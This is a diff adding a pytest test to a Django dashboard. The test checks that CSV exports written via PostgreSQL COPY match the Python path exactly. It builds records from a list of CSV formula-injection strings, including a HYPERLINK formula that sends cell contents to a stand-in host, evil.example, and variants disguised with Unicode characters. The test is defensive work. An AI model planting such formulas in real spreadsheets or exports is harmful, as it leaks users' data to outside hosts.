@@ -115,3 +115,65 @@ def test_a_live_page_beyond_what_the_api_answers_is_a_400_with_the_reason(archiv
     assert response.status_code == 400
     assert "the Live API answers pages 1 to 100,000; nothing was asked" in response.content.decode()
     assert sandbox_app.stats.calls == {}
+
+
+HOSTILE_TEXTS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "＝1+1",
+    "\u3000=1",  # an ideographic space before a formula
+    "\u200b@SUM(1)",
+    "-2+3",
+    'plain, with "quotes"\nand a line break',
+    "直播间 studio-7",
+    "\t+1",
+    "",
+]
+
+
+@pytest.mark.django_db(databases=ALL_DATABASES)
+@pytest.mark.parametrize("seed", range(3))
+def test_an_export_file_is_the_same_however_it_is_written(archived, viewer, seed):
+    """On PostgreSQL the file is written by COPY, every cell made safe in SQL; it must be the
+    very file the Python path writes, hostile cells and line breaks included."""
+    import datetime as dt
+    import random
+
+    from django.utils import timezone
+
+    from dashboard.archive.selectors import records_search
+    from dashboard.csvexport import csv_lines
+    from dashboard.domains.models import Domain
+    from dashboard.records import exports
+    from dashboard.records.forms import freeze_filters
+    from tests.conftest import archive
+
+    rng = random.Random(seed)
+    domain = Domain.objects.get(name=TEAM_DOMAIN)
+    moment = timezone.now().replace(microsecond=0)
+    for n, text in enumerate(HOSTILE_TEXTS):
+        archive(
+            domain,
+            ("failed" if n % 2 else "success", moment - dt.timedelta(seconds=n)),
+            url="https://hooks.example.net/" + rng.choice(HOSTILE_TEXTS).replace("\n", ""),
+            content=rng.choice(HOSTILE_TEXTS),
+            header=text,
+            stream=text or f"s{n}",
+        )
+    filters = {
+        "start": moment - dt.timedelta(minutes=1),
+        "end": moment + dt.timedelta(seconds=1),
+        "domain": TEAM_DOMAIN,
+        "domain_id": domain.pk,
+    }
+    rows = records_search(filters=filters)
+    base = "http://testserver"
+    expected = "".join(csv_lines(exports.HEADER, exports.export_rows(rows.iterator(), base=base)))
+    export = Export.objects.create(
+        created_by=viewer, query="", filters={**freeze_filters(filters), "_base": base}
+    )
+    assert exports.export_write(export.pk) == "done"
+    export.refresh_from_db()
+    written = exports.export_path(export).read_bytes().decode("utf-8")
+    assert rows_of(written.encode()) == rows_of(expected.encode())  # what a reader reads
+    assert written == expected  # and the very same bytes
+    assert export.written == rows.count() == len(HOSTILE_TEXTS)
